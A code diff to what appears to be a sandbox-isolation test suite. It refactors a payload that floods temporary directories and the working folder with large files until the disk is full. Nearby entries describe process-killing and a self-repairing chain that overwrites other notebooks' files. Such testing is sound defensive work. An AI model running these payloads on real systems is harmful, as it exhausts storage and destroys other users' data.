@@ -89,6 +89,19 @@ if os.fork() == 0:
 """
 
 
+# Files just under the size limit in every writable temporary place, until it is full.
+FILL_SCRATCH = """
+import os
+for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
+    for index in range(64):
+        try:
+            with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as handle:
+                for _ in range(255):
+                    handle.write(bytes(1 << 20))
+        except OSError:
+            break
+"""
+
 @dataclass(frozen=True)
 class Attack:
     name: str
@@ -287,17 +300,7 @@ for index in range(100000):
            (self_repairing(name="killer", seconds=30) + "\ntime.sleep(0.5)\n",), needs_root=True),
     Attack("fill_scratch",
            "fills its working directory, /tmp, /var/tmp and /dev/shm with files just under the size limit",
-           ("""
-import os
-for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
-    for index in range(64):
-        try:
-            with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as handle:
-                for _ in range(255):
-                    handle.write(bytes(1 << 20))
-        except OSError:
-            break
-""",), needs_root=True),
+           (FILL_SCRATCH,), needs_root=True),
     Attack("tamper_neighbours",
            "a detached, self-repairing process chain that locks other notebooks' folders and overwrites every "
            ".pth and notebook it finds, for half a minute",
